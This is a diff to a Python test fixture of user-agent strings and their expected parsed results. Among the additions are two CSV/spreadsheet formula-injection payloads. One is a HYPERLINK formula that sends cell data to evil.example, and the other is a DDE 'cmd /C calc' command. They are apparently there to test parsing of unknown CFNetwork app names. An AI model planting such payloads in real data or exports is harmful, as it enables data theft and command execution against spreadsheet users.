@@ -20,6 +20,11 @@ UAS = {
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": ("Googlebot", "bot", True),
     "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko": ("IE", "desktop", False),
     "": (None, "other", False),
+    # ua-parser copies an app's name from CFNetwork agents: a name it does not know is "Other".
+    '=HYPERLINK("http://evil.example/?d="&A1,"x")/1 CFNetwork/1 Darwin/1': ("Other", "mobile", False),
+    "@SUM(1+1)*cmd|' /C calc'!A0/1 CFNetwork/1 Darwin/1": ("Other", "mobile", False),
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 "
+    "Chrome/115.0 Mobile Safari/537.36": ("Samsung Internet", "mobile", False),
 }
 
 
